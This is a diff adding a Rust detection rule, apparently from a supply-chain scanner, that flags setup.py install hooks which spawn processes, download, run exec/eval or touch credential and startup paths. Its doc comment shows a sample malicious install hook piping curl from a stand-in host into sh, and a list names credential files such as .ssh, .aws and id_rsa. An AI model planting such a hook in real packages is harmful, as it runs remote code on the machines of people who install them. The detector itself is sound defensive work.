@@ -1,0 +1,185 @@
+//! # SW-PY-002: setup.py install-time behavior
+//!
+//! **What it does.** Looks at `setup.py`, which pip runs to build an
+//! sdist. It reports `cmdclass` overrides of `install`, `develop`,
+//! `egg_info`, `build_py`, `bdist_wheel` and their kin whose code
+//! starts processes (other than compilers and build tools), downloads,
+//! runs `exec`/`eval`, reads credentials or writes into the home
+//! directory or system locations; and, as a weaker signal, a `setup.py`
+//! that talks to the network at all.
+//!
+//! **Why is this bad.** A custom `install` command is the classic way to
+//! run a payload the moment someone types `pip install`: the code sits
+//! in a method no reader expects to matter, and it runs with the user's
+//! rights before any of the package is imported.
+//!
+//! **Example.**
+//!
+//! ```python
+//! class PostInstall(install):
+//!     def run(self):
+//!         install.run(self)
+//!         os.system("curl -s https://payload.example.test/x | sh")
+//!
+//! setup(name="pkg", cmdclass={"install": PostInstall})
+//! ```
+//!
+//! **False positives.** Overrides that run a compiler, `cmake`, `git`
+//! or `npm` to build assets are only noted (`info`). A `setup.py` that downloads a
+//! build dependency is `medium` on its own and blocks only together with
+//! other findings.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::{Context, Emit, Rule, is_network, is_spawn};
+use crate::lang::Call;
+use crate::model::{Severity, Stage};
+
+pub(crate) static RULE: Rule = Rule {
+    id: "SW-PY-002",
+    title: "setup.py install-time behavior",
+    source: include_str!("py002_setup_install_hooks.rs"),
+    check,
+};
+
+/// `class X(install):`, `class X(setuptools.command.install.install):`.
+static COMMAND_CLASS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?m)^class\s+(\w+)\s*\(\s*(?:[\w.]*\.)?(_?install|develop|egg_info|build_py|bdist_wheel|bdist_egg|install_lib|install_scripts|install_egg_info|build|sdist|orig\.install)\s*[,)]",
+    )
+    .expect("a valid regex")
+});
+
+/// Programs a build runs as a matter of course.
+const BUILD_TOOLS: &[&str] = &[
+    "git", "gcc", "g++", "cc", "c++", "clang", "cmake", "make", "ninja", "pkg-config", "cython", "swig", "nvcc",
+    "npm", "yarn", "jlpm", "node", "pnpm", "cargo", "rustc", "go", "meson", "protoc", "msbuild", "bazel",
+    "autoreconf", "./configure", "python", "python3", "pip",
+];
+
+/// Paths a build has no business writing or reading.
+const SENSITIVE: &[&str] = &[
+    ".ssh", ".aws", ".bashrc", ".zshrc", ".profile", "/etc/", "crontab", "LaunchAgents", "autostart", ".config/",
+    "AppData", "Startup", ".npmrc", ".pypirc", ".git-credentials", "id_rsa", ".docker/config", ".kube",
+];
+
+fn is_exec(callee: &str) -> bool {
+    matches!(callee, "exec" | "eval" | "execfile" | "builtins.exec" | "builtins.eval")
+}
+
+/// Whether a spawn runs only a build tool.
+fn build_tool_only(call: &Call) -> bool {
+    let Some(first) = call.strings.first() else {
+        return false;
+    };
+    let program = first.split_whitespace().next().unwrap_or("");
+    let program = program.rsplit('/').next().unwrap_or(program);
+    BUILD_TOOLS.contains(&program)
+        || call.names.iter().any(|n| n == "sys.executable")
+            && !call.strings.iter().any(|s| s.contains("http") || s == "-c")
+}
+
+fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
+    let Some(file) = cx.files.iter().find(|f| f.path == "setup.py") else {
+        return;
+    };
+    let (Some(text), Some(facts)) = (&file.text, &file.facts) else {
+        return;
+    };
+    let lines: Vec<&str> = text.lines().collect();
+    // cmdclass overrides and what their bodies do.
+    let mut reported = false;
+    if text.contains("cmdclass") {
+        for caps in COMMAND_CLASS.captures_iter(text) {
+            let (Some(whole), Some(name), Some(base)) = (caps.get(0), caps.get(1), caps.get(2)) else {
+                continue;
+            };
+            let start = crate::lang::lexical::line_of(text.as_bytes(), whole.start());
+            let end = class_end(&lines, start);
+            let used = text[whole.end()..].contains(name.as_str());
+            if !used {
+                continue;
+            }
+            let body = |c: &&Call| c.line > start && c.line <= end;
+            let calls: Vec<&Call> = facts
+                .calls
+                .iter()
+                .filter(body)
+                .filter(|c| !super::py003_intree_backend::is_chained(&c.callee))
+                .collect();
+            let spawn = calls
+                .iter()
+                .find(|c| is_spawn(&c.callee) && !build_tool_only(c));
+            let network = calls.iter().find(|c| is_network(&c.callee));
+            let exec = calls.iter().find(|c| is_exec(&c.callee));
+            let body_text = lines
+                .get(start as usize..end as usize)
+                .map(|l| l.join("\n"))
+                .unwrap_or_default();
+            let sensitive = SENSITIVE.iter().find(|s| body_text.contains(**s));
+            let mut what = Vec::new();
+            if let Some(c) = spawn {
+                what.push(format!("starts a process (`{}`)", c.callee));
+            }
+            if let Some(c) = network {
+                what.push(format!("talks to the network (`{}`)", c.callee));
+            }
+            if let Some(c) = exec {
+                what.push(format!("runs `{}`", c.callee));
+            }
+            if let Some(s) = sensitive {
+                what.push(format!("touches `{s}`"));
+            }
+            let severity = match what.len() {
+                0 => {
+                    let builds = calls.iter().any(|c| is_spawn(&c.callee));
+                    if builds { Severity::Info } else { continue }
+                }
+                1 => Severity::High,
+                _ => Severity::Critical,
+            };
+            let message = if what.is_empty() {
+                format!("the `{base}` override `{}` runs a build tool", name.as_str(), base = base.as_str())
+            } else {
+                format!(
+                    "the `{base}` override `{}` {}",
+                    name.as_str(),
+                    what.join(", "),
+                    base = base.as_str()
+                )
+            };
+            out.finding(severity, Stage::Install, &file.path, Some(start), message);
+            reported = true;
+        }
+    }
+    // setup.py talking to the network at all.
+    if !reported
+        && let Some(call) = facts.calls.iter().find(|c| is_network(&c.callee))
+    {
+        out.finding(
+            Severity::Medium,
+            Stage::Install,
+            &file.path,
+            Some(call.line),
+            format!("setup.py talks to the network while the package is built (`{}`)", call.callee),
+        );
+    }
+}
+
+/// The last line (1-based) of the class starting at `start`: the line
+/// before the next line indented no deeper than it.
+fn class_end(lines: &[&str], start: u32) -> u32 {
+    let mut end = start;
+    for (i, line) in lines.iter().enumerate().skip(start as usize) {
+        if line.trim().is_empty() || line.trim_start().starts_with('#') {
+            continue;
+        }
+        if !line.starts_with([' ', '\t']) {
+            break;
+        }
+        end = i as u32 + 1;
+    }
+    end
+}
